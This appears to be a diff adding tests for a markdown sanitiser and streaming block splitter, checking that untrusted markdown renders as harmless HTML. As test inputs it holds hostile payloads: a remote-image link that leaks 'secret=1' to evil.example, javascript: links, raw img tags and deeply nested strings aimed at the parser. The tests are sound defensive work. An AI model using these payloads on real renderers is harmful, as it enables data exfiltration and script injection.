@@ -1,0 +1,149 @@
+"""Markdown from anyone becomes harmless HTML, block by block."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from nbagent.widgets.markdown import BLOCK_LIMIT, Rendered, highlight, render, safe_markdown, sanitise
+from nbagent.widgets.splitter import Splitter
+from tests.widgets.telling import HOSTILE, inspect
+
+LINES = st.sampled_from(
+    ["", "", "word *em* `code`", "# Head", "## Two", "- item", "  more", "    code", "1. one", "2. two", "   - nested",
+     "> quote", "> - in quote", "> ```", "```", "```python", "~~~", "````", "---", "===", "| a | b |", "|---|--:|",
+     "| 1 | 2 |", "\ttab", "* * *", "+ plus", "text  ", "<b>raw</b>", "10) ten", "#hash", "-", "    - deep"]
+)  # fmt: skip
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(LINES, max_size=14), st.integers(1, 7))
+def test_blocks_rendered_apart_equal_the_whole(lines: list[str], step: int) -> None:
+    source = "\n".join(lines)
+    splitter, blocks = Splitter(), list[str]()
+    for start in range(0, len(source), step):
+        blocks += splitter.feed(source[start : start + step])
+    blocks += splitter.close()
+    assert "".join(map(render, blocks)) == render(source)
+
+
+def test_a_paragraph_is_over_at_its_blank_line() -> None:
+    splitter = Splitter()
+    assert splitter.feed("One\ntwo\n") == []
+    assert splitter.feed("\nThr") == ["One\ntwo\n\n"]
+    assert splitter.tail == "Thr"
+
+
+def test_a_fence_is_over_at_its_end_and_holds_blank_lines() -> None:
+    splitter = Splitter()
+    assert splitter.feed("```python\na\n\n# no heading\n") == []
+    assert splitter.in_code
+    assert splitter.feed("```\n") == ["```python\na\n\n# no heading\n```\n"]
+
+
+def test_a_list_goes_on_after_a_blank_line() -> None:
+    splitter = Splitter()
+    assert splitter.feed("- a\n\n- b\n\n  more\n\n") == []
+    assert splitter.feed("After\n") == ["- a\n\n- b\n\n  more\n\n"]
+
+
+def test_the_inspector_sees_what_is_hostile() -> None:
+    acting = [text for text in HOSTILE if "<" in text.split("`")[0]]
+    assert len(acting) > 10
+    assert all(inspect(text).faults for text in acting)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_markdown_is_harmless(text: str) -> None:
+    assert inspect(render(text)).faults == []
+    assert inspect(sanitise(text)).faults == []
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.lists(st.sampled_from([*HOSTILE, "<", ">", '"', "'", "](", "![", "`", "\n\n", "<svg>", "&#x6a;"]), max_size=6)
+)
+def test_hostile_pieces_together_are_harmless(pieces: list[str]) -> None:
+    text = "".join(pieces)
+    assert inspect(render(text)).faults == []
+    assert inspect(render(safe_markdown(text))).faults == []
+
+
+def test_a_remote_image_is_its_address_as_text() -> None:
+    html = render("![chart](https://evil.example/leak.png?secret=1) and ![x](//evil.example/y.png)")
+    found = inspect(html)
+    assert "<img" not in html
+    assert "image: chart https://evil.example/leak.png?secret=1" in found.text
+    assert 'href="https://evil.example/y.png"' in html
+
+
+def test_links_are_kept_apart_from_the_page() -> None:
+    html = render("[x](https://example.com) https://example.org")
+    assert html.count('rel="noopener noreferrer"') == 2
+    assert html.count('target="_blank"') == 2
+
+
+def test_a_bad_link_keeps_its_text() -> None:
+    assert inspect(render("[click](javascript:alert(1))")).text == "click"
+
+
+def test_raw_html_is_text_but_for_line_breaks() -> None:
+    assert render("a <b>bold</b>") == "<p>a &lt;b&gt;bold&lt;/b&gt;</p>"
+    assert "1<br>2" in render("| a |\n|---|\n| 1<br>2 |").replace("\n", "")
+
+
+def test_tables_keep_their_alignment_without_style() -> None:
+    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
+    assert '<td align="right">2</td>' in html
+    assert "style" not in html
+
+
+def test_code_is_highlighted_with_few_classes() -> None:
+    expected = '<span class="k">def </span><span class="f">f</span>(): <span class="k">pass</span>'
+    assert highlight("def f(): pass", "python") == expected
+    assert highlight("<b>", "no-such-language") == "&lt;b&gt;"
+
+
+def test_link_definitions_serve_later_blocks_and_the_whole() -> None:
+    rendered = Rendered()
+    source = "[a][1] first\n\n[1]: https://example.com\n\n[b][1] later\n\n"
+    rendered.advance(source, True)
+    assert "example.com" in rendered.pieces[-1]
+    assert rendered.whole(source).count("https://example.com") == 2
+
+
+def test_a_huge_block_is_plain_text() -> None:
+    html = render("*x*" * BLOCK_LIMIT)
+    assert "<em>" not in html
+
+
+DEEP = ["[" * 20_000, "*a **a " * 3_000, "[a](" * 6_000, "> " * 9_000, "`" * 20_000 + "a", "<a " * 9_000]
+
+
+@pytest.mark.parametrize("text", DEEP)
+def test_hostile_nesting_takes_no_time(text: str) -> None:
+    began = time.process_time()
+    render(text)
+    safe_markdown(text)
+    assert time.process_time() - began < 3
+
+
+def test_harmless_markdown_stays_as_it_was() -> None:
+    source = (
+        "## Head\n\nSome *words*, `x < y`, [a link](https://example.com).\n\n- one\n- two\n\n```python\nx = '<b>'\n```"
+    )
+    assert safe_markdown(source) == source
+
+
+ACTIVE = ["![a](https://e.example/x)", "[a](javascript:x)", "<img src=x>", "[r]: //e.example/x"]
+
+
+@pytest.mark.parametrize("text", ACTIVE)
+def test_markdown_that_could_act_is_escaped(text: str) -> None:
+    escaped = safe_markdown(f"Fine.\n\n{text}")
+    assert escaped.startswith("Fine.\n\n")
+    assert text not in escaped
+    assert inspect(render(escaped)).text == f"Fine.{text}"
